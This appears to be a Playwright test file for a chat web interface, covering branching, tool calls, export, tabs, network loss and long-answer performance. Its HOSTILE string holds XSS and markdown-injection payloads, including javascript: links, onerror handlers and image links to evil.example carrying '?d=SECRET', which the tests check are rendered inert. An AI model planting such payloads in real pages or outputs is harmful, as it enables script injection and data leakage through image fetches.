"""The room of conversations, in a real browser: asked and answered, branches, tools, what is cut,
two tabs, a network that goes, and texts that try to be more than texts."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from http_client import ask
from small_server import Running
from tasks_of import tasks_of

Opened = Callable[..., Any]
GREEDY: dict[str, Any] = {"temperature": 0}
HOSTILE = """Hello <script>document.title = "owned"</script>
<img src=x onerror="document.title='owned'">

<iframe src="https://evil.example/frame"></iframe>

<svg onload="document.title='owned'"><foreignObject><b>x</b></foreignObject></svg>

<math><mtext><a xlink:href="javascript:alert(1)">m</a></mtext></math>

[click](javascript:alert(1)) [data](data:text/html,<script>1</script>) [file](file:///etc/passwd)
[odd](&#106;avascript:alert(1)) [page](/v1/models) <javascript:alert(1)> [fine](https://example.org/a?b=c)

[later][known] ![x](https://evil.example/?d=SECRET) ![y][far] [![z](https://evil.example/z.png)](https://example.org/)

[far]: https://evil.example/?d=REFERENCE

**[*`<b>`](https://example.org "</a><script>1</script>")* _**_
~~[~~](x) > - > 1. <!-- ]]> --> <style>*{display:none}</style>

$$\\href{javascript:alert(1)}{x} \\includegraphics{https://evil.example/i.png}$$

\\(\\def\\a{\\a\\a}\\a\\) \\(x^2\\)

[known]: https://example.org/known

| a | <img src=x> |
|--:|---|
| 1 | <b onclick=1>2</b> ![t](https://evil.example/t.png) |
"""
LOVELY = """## A short answer

The mean of *n* numbers is their sum over their count, in `statistics` of the standard library:

```python
from statistics import mean

def centred(values: list[float]) -> list[float]:
    middle = mean(values)  # once
    return [value - middle for value in values]
```

$$\\bar{x} = \\frac{1}{n} \\sum_{i=1}^{n} x_i$$

1. Sum them
   - all of them
2. Divide by \\(n\\)

| n | mean |
|---|-----:|
| 2 | 1.5 |
| 3 | 2.0 |

> See [the documents](https://docs.python.org/3/library/statistics.html).
"""


def turn(id: str, role: str, text: str, parent: str | None = None, **more: Any) -> dict[str, Any]:
    return {"id": id, "role": role, "text": text, "parent": parent, **more}


def kept(studio: Running, *turns: Any, **more: Any) -> str:
    body = {"model": "gossip", "settings": GREEDY, "turns": list(turns), **more}
    made = ask(studio.url, "POST", "/v1/chats", body)
    assert made.status == 200, made.body
    return str(made.json["id"])


def stored(studio: Running, id: str) -> Any:
    return ask(studio.url, "GET", f"/v1/chats/{id}").json


def chat_of(page: Any) -> str:
    page.wait_for_url("**#/chat/chat_*")
    return str(page.url.rsplit("/", 1)[1])


def answered(page: Any) -> None:
    page.get_by_role("article", name="Answer").last.get_by_role(
        "button", name="Copy"
    ).last.wait_for()


def test_what_a_model_wrote_stays_text(
    studio: Running, opened: Opened, shot: Callable[..., Path]
) -> None:
    id = kept(
        studio, turn("a", "user", HOSTILE), turn("b", "assistant", HOSTILE, "a", reasoning=HOSTILE)
    )
    page = opened(f"#/chat/{id}")
    page.locator(".chat-answer math").first.wait_for()
    page.wait_for_timeout(300)
    live = "script, iframe, svg[onload], style, foreignObject, img, object, embed, base"
    assert page.locator(f"main :is({live})").count() == 0
    assert page.title() == "Chat · Genloom"
    links = page.locator(".chat-text a").evaluate_all(
        "all => all.map(a => [a.href, a.rel, a.target])"
    )
    assert links and all(href.startswith("https://example.org/") for href, _, _ in links)
    assert all(
        rel == "noopener noreferrer nofollow" and target == "_blank" for _, rel, target in links
    )
    assert any(href.endswith("/known") for href, _, _ in links)
    assert page.locator("main [onclick], main [onerror], main [href^=javascript]").count() == 0
    assert page.get_by_text("Picture, not fetched").count() >= 4
    assert "(example.org)" in page.locator(".chat-text").inner_text()
    shot(page, "chat-hostile")
    assert "<script>document.title" in page.locator(".chat-text").inner_text()


def test_asked_answered_and_found_again(studio: Running, opened: Opened) -> None:
    page = opened("#/chat")
    addresses: list[str] = []
    page.on("request", lambda request: addresses.append(request.url))
    page.get_by_label("Model").select_option("gossip")
    say = page.get_by_label("Your message")
    say.fill("say a, my password is hunter2")
    page.reload()
    assert say.input_value() == "say a, my password is hunter2"  # the draft is there
    say.press("Enter")
    id = chat_of(page)
    answered(page)
    assert say.input_value() == ""
    page.get_by_role("button", name="Answer again").click()
    page.get_by_text("2/2").wait_for()
    answered(page)
    page.get_by_role("button", name="The branch before").click()
    page.get_by_text("1/2").wait_for()
    page.get_by_role("article", name="Question").get_by_role("button", name="Edit").click()
    page.get_by_label("The question, put otherwise").fill("say b")
    page.get_by_role("button", name="Ask this instead").click()
    page.get_by_role("article", name="Question").get_by_text("2/2").wait_for()
    answered(page)
    assert [t["text"] for t in stored(studio, id)["turns"] if t["role"] == "user"][1] == "say b"
    page.get_by_role("button", name="Chat", exact=True).click()
    page.get_by_label("Name of this chat").fill("Letters")
    page.get_by_label("Name of this chat").press("Enter")
    page.get_by_role("navigation", name="Chats").get_by_text("Letters").wait_for()
    page.get_by_label("Find in chats").fill("HUNTER2")
    page.get_by_role("navigation", name="Chats").get_by_text("Letters").wait_for()
    assert not [one for one in addresses if "hunter2" in one.lower()]
    assert page.title() == "Chat · Genloom"
    page.get_by_role("button", name="Delete").click()
    page.get_by_role("button", name="Delete for good").click()
    page.wait_for_url("**#/chat")
    assert ask(studio.url, "GET", f"/v1/chats/{id}").status == 404
    page.goto(f"{studio.url}/#/chat/{id}")
    page.get_by_text("There is no such chat of yours").wait_for()


def test_a_cut_answer_goes_on_and_says_how_sure_it_was(
    studio: Running, opened: Opened, shot: Callable[..., Path]
) -> None:
    settings = {**GREEDY, "ignore_eos": True, "max_tokens": 8, "logprobs": True, "top_logprobs": 3}
    id = kept(studio, settings=settings)
    page = opened(f"#/chat/{id}")
    page.get_by_label("Your message").fill("say a")
    page.get_by_label("Your message").press("Enter")
    page.get_by_text("partial").wait_for()
    page.get_by_text("8 tokens").wait_for()
    page.get_by_role("button", name="Continue").click()
    page.get_by_text("16 tokens").wait_for()
    assert (
        len(stored(studio, id)["turns"]) == 2
        and page.get_by_role("article", name="Answer").count() == 1
    )
    page.get_by_role("button", name="Certainty").click()
    tokens = page.get_by_role("listbox", name="Tokens").get_by_role("option")
    tokens.first.focus()
    page.keyboard.press("ArrowRight")
    page.get_by_text("Token 2 of").wait_for()
    shot(page, "chat-certainty")
    assert (
        page.get_by_role("table", name="What the model weighed here").get_by_role("row").count()
        == 3
    )


def test_a_tool_is_called_and_answered_by_hand(studio: Running, opened: Opened) -> None:
    tool = {
        "name": "look",
        "parameters": {"type": "object", "properties": {"at": {"enum": ["x"]}}, "required": ["at"]},
    }
    id = kept(
        studio,
        tools=[{"type": "function", "function": tool}],
        settings={
            **GREEDY,
            "tool_choice": {"type": "function", "function": {"name": "look"}},
            "parallel_tool_calls": False,
        },
    )
    page = opened(f"#/chat/{id}")
    page.get_by_label("Your message").fill("say a")
    page.get_by_label("Your message").press("Enter")
    page.get_by_label("What look found").fill("it is <b>here</b>")
    page.get_by_role("button", name="Give the answer").click()
    page.get_by_role("article", name="What the tool found").get_by_text(
        "it is <b>here</b>"
    ).wait_for()
    page.get_by_role("article", name="Answer").nth(1).wait_for()
    found = stored(studio, id)["turns"][2]
    assert found["role"] == "tool" and found["call_id"]


def test_a_chat_goes_out_as_a_file_and_comes_back(
    studio: Running, opened: Opened, tmp_path: Path
) -> None:
    id = kept(studio, turn("a", "user", "say a"), turn("b", "assistant", "**one**", "a"))
    page = opened(f"#/chat/{id}")
    with page.expect_download() as told:
        page.get_by_role("button", name="Export").click()
    assert told.value.suggested_filename == f"{id}.json"
    told.value.save_as(tmp_path / "chat.json")
    page.get_by_label("The file of an exported chat").set_input_files(tmp_path / "chat.json")
    page.wait_for_url(lambda url: "chat_" in url and id not in url)
    page.locator(".chat-answer strong").get_by_text("one").wait_for()
    other = stored(studio, chat_of(page))
    assert [t["text"] for t in other["turns"]] == ["say a", "**one**"]


def test_a_question_whose_answer_was_lost_is_put_once(studio: Running, opened: Opened) -> None:
    id, lost = kept(studio), []

    def deaf(route: Any) -> None:
        if not lost:
            lost.append(route.fetch())  # the server has heard it; the page hears nothing
            route.abort()
        else:
            route.continue_()

    page = opened(f"#/chat/{id}")
    page.route("**/answers", deaf)
    page.get_by_label("Your message").fill("say a")
    page.get_by_label("Your message").press("Enter")
    answered(page)
    assert lost and len(stored(studio, id)["turns"]) == 2


def test_two_tabs_lose_no_edit(studio: Running, opened: Opened) -> None:
    id = kept(studio, system="first")
    tabs = [opened(f"#/chat/{id}") for _ in range(2)]
    for tab in tabs:
        tab.get_by_role("button", name="Setup").click()
        tab.get_by_label("System prompt").wait_for()
    for tab, text in zip(tabs, ("be short", "be long"), strict=True):
        tab.get_by_label("System prompt").fill(text)
        tab.get_by_role("button", name="Apply").click()
        tab.wait_for_timeout(300)
    dialog = tabs[1].get_by_role("dialog", name="Changed in another tab")
    dialog.get_by_text("be short").wait_for()
    dialog.get_by_text("be long").wait_for()
    assert stored(studio, id)["system"] == "be short"
    dialog.get_by_role("button", name="Keep what is here").click()
    dialog.wait_for(state="detached")
    assert stored(studio, id)["system"] == "be long"


def test_the_network_goes_and_nothing_is_missed(studio: Running, opened: Opened) -> None:
    id = kept(studio, settings={**GREEDY, "ignore_eos": True})
    page = opened(f"#/chat/{id}")
    page.route("**/events", lambda route: route.abort())
    page.get_by_label("Your message").fill("say a")
    page.get_by_label("Your message").press("Enter")
    page.get_by_text("The server cannot be heard").wait_for()
    page.unroute("**/events")
    page.get_by_text("The server cannot be heard").wait_for(state="detached")
    answered(page)
    whole = stored(studio, id)["turns"][1]
    page.get_by_role("button", name="Copy").last.wait_for()
    assert f"{whole['usage']['made']} tokens" in page.locator(".chat-measures").inner_text()


def test_a_tab_that_is_closed_ends_nothing(studio: Running, opened: Opened) -> None:
    id = kept(studio, settings={**GREEDY, "ignore_eos": True})
    away, here = opened(f"#/chat/{id}"), opened(f"#/chat/{id}")
    here.get_by_label("Your message").wait_for()
    away.get_by_label("Your message").fill("say a")
    with away.expect_response("**/answers"):
        away.get_by_label("Your message").press("Enter")
    away.close()
    here.reload()
    answered(here)
    turns = stored(studio, id)["turns"]
    assert [t["role"] for t in turns] == ["user", "assistant"]
    assert turns[1]["reason"] == "length"
    assert here.get_by_role("article", name="Answer").count() == 1


def test_what_another_tab_said_is_told(studio: Running, opened: Opened) -> None:
    id = kept(studio, turn("a", "user", "say a"), turn("b", "assistant", "one", "a"))
    here, there = opened(f"#/chat/{id}"), opened(f"#/chat/{id}")
    here.get_by_text("one", exact=True).wait_for()
    there.get_by_label("Your message").fill("say b")
    there.get_by_label("Your message").press("Enter")
    answered(there)
    here.evaluate("dispatchEvent(new Event('online'))")
    here.get_by_role("button", name="Go there").click()
    here.get_by_text("say b").wait_for()


@pytest.mark.slow
def test_a_hundred_thousand_tokens_leave_the_page_awake(studio: Running, opened: Opened) -> None:
    text = (LOVELY + "\n\nSome more words of it, and `code`, and *so on*.\n\n").replace("$$", "")
    text *= 420_000 // len(text)
    id = kept(
        studio, turn("a", "user", "all of it"), turn("b", "assistant", text + "\n\nTHE END", "a")
    )
    longest = longest_task(opened("#/chat"), id)
    assert 0 < longest < 200, f"{longest} ms"


def longest_task(page: Any, id: str) -> float:
    """Milliseconds of its own thread for which the page answered nothing while it showed a chat."""
    page.get_by_label("Model").wait_for()
    with tasks_of(page) as tasks:
        page.evaluate(f"location.hash = '#/chat/{id}'")
        page.wait_for_function(ENDED)  # looking for words would be the longest task itself
        page.mouse.wheel(0, 20_000)
        page.keyboard.type("/still awake")
        page.wait_for_function(TYPED)
    return tasks.longest


TYPED = "() => document.getElementById('chat-say').value === 'still awake'"
ENDED = """() => document.querySelector('.chat-answer .chat-text')
  ?.lastElementChild?.lastElementChild?.textContent === 'THE END'"""


@pytest.mark.slow
def test_light_dark_and_phone(studio: Running, opened: Opened, shot: Callable[..., Path]) -> None:
    new = opened("#/chat")
    new.get_by_label("Model").wait_for()
    new.wait_for_timeout(300)
    shot(new, "chat-new")
    cut = {
        "status": "incomplete",
        "reason": "length",
        "usage": {"made": 212, "prompt": 30},
        "timing": {"seconds": 4.2, "first": 0.21},
        "model": "gossip",
        "weights": "c0ffee",
    }
    calls = [{"id": "c1", "name": "look_up", "arguments": '{"word": "warp"}'}]
    id = kept(
        studio,
        turn("a", "user", "How do I centre numbers?"),
        turn(
            "b",
            "assistant",
            LOVELY,
            "a",
            **{**cut, "status": "completed"},
            reasoning="First the mean.",
        ),
        turn("c", "user", "And what is a warp?", "b"),
        turn("d", "assistant", "Let me look.", "c", **{**cut, "status": "completed"}, calls=calls),
        turn("e", "tool", "threads held in tension on a loom", "d", call_id="c1"),
        turn("f", "assistant", "A warp is the threads that are", "e", **cut),
    )
    for name, how in {"light": {}, "dark": {"dark": True}, "phone": {"phone": True}}.items():
        page = opened(f"#/chat/{id}", **how)
        page.get_by_text("A warp is").wait_for()
        page.locator(".chat-answer math").first.wait_for()
        page.wait_for_timeout(400)
        shot(page, f"chat-end-{name}")
        page.evaluate("scrollTo(0, 0)")
        page.wait_for_timeout(150)
        shot(page, f"chat-{name}")
        page.get_by_role("button", name="Setup").click()
        page.wait_for_timeout(600)
        shot(page, f"chat-setup-{name}")
        assert page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0
